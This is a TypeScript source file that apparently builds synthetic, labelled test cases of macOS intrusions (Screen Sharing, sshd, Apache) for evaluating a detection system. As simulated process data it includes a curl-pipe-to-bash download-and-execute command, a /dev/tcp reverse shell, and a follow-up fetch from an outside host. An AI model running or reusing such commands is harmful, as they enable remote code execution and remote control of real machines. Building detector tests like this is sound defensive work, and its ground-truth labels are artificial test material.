import type { Item } from '../item.ts';
import { type Case, type CaseTruth, exploited, type Setting } from './case.ts';
import { Mac } from './mac.ts';

interface Exploit {
  readonly id: string;
  readonly title: string;
  readonly truth: CaseTruth;
  readonly role: string;
  readonly port: number;
  readonly job: { readonly label: string; readonly program: string; readonly uid: number };
  readonly intruder: string;
  readonly burst?: readonly [count: number, failed: number];
  readonly crashes: number;
  readonly shell?: string;
  readonly next?: readonly [to: string, port: number];
}

const truth = (...findings: CaseTruth['findings']): CaseTruth => ({ findings, nothingAbove: 'low' });
const SCREEN = { label: 'com.apple.screensharing', program: 'screensharingd', uid: 0 } as const;

const EXPLOITS: readonly Exploit[] = [
  {
    id: 'mac-screensharing',
    title: 'Screen Sharing: failing connections, three crashes, a shell, SSH inwards',
    truth: truth(exploited('macos', 'mac-anna', 'A2 B1 C1 D1', 'high')),
    role: 'mac-anna',
    port: 5900,
    job: SCREEN,
    intruder: '10.34.9.50',
    burst: [24, 15],
    crashes: 3,
    shell: 'curl -s http://10.34.9.50:8000/a | bash',
    next: ['10.34.3.30', 22],
  },
  {
    id: 'mac-screensharing-crash',
    title: 'Screen Sharing crashes under failing connections, and that is all',
    truth: truth(exploited('macos', 'mac-ben', 'A2 B1', 'medium', 'high')),
    role: 'mac-ben',
    port: 5900,
    job: SCREEN,
    intruder: '10.34.9.51',
    burst: [22, 12],
    crashes: 1,
  },
  {
    id: 'mac-sshd',
    title: 'Remote Login: sshd crashes, then a shell that nobody logged in for',
    truth: truth(exploited('macos', 'mac-cleo', 'A1 B1 C1', 'high')),
    role: 'mac-cleo',
    port: 22,
    job: { label: 'com.openssh.sshd', program: 'sshd', uid: 0 },
    intruder: '10.34.9.52',
    crashes: 1,
    shell: 'id; sw_vers',
  },
  {
    id: 'mac-httpd',
    title: 'Apache on a Mac: a crash, a shell of the web server connects back',
    truth: truth(exploited('macos', 'mac-dora', 'B1 C1 D4', 'high')),
    role: 'mac-dora',
    port: 8080,
    job: { label: 'org.apache.httpd', program: 'httpd', uid: 70 },
    intruder: '10.34.9.53',
    crashes: 1,
    shell: 'bash -i >& /dev/tcp/10.34.9.53/4444 0>&1',
    next: ['10.34.9.53', 4444],
  },
];

/** 14:30:00 the access, 14:30:04 the first crash, 14:30:52 the shell, 14:33:10 the next hop. */
function tell(exploit: Exploit, setting: Setting): readonly Item[] {
  const { clock, random } = setting;
  const { job, intruder, port } = exploit;
  const mac = new Mac(setting, exploit.role, `10.34.3.${random.between(60, 90)}`, [port]);
  const access = { from: intruder, to: mac.ip, port };
  mac.items.push(
    ...(exploit.burst === undefined
      ? [mac.sensor.flow({ at: clock('14:30:02'), seconds: 2, sent: 9000, received: 500, ...access })]
      : mac.sensor.burst(...exploit.burst, { at: clock('14:30:00'), ...access })),
  );
  for (let i = 0; i < exploit.crashes; i++) {
    mac.crashed(clock('14:30:04.2') + i * 12.6e6, job.label, job.program, 4100 + i * 12);
  }
  if (exploit.shell === undefined) return mac.items;
  const daemon = 4100 + exploit.crashes * 12;
  mac.items.push(mac.sensor.flow({ at: clock('14:30:44'), seconds: 20, sent: 40_000, received: 3000, ...access }));
  mac.ran(clock('14:30:52'), 4201, daemon, '/bin/bash', `bash -c "${exploit.shell}"`, job.program, job.uid);
  mac.ran(clock('14:30:52.5'), 4202, 4201, '/usr/bin/curl', 'curl -s http://198.51.100.9/b', 'bash', job.uid);
  if (exploit.next !== undefined) mac.connect(clock('14:33:10'), 4201, '/bin/bash', ...exploit.next);
  return mac.items;
}

export const MACOS_CASES: readonly Case[] = EXPLOITS.map(exploit => ({
  id: exploit.id,
  kind: 'positive',
  title: exploit.title,
  truth: exploit.truth,
  parameters: {},
  tell: setting => tell(exploit, setting),
}));
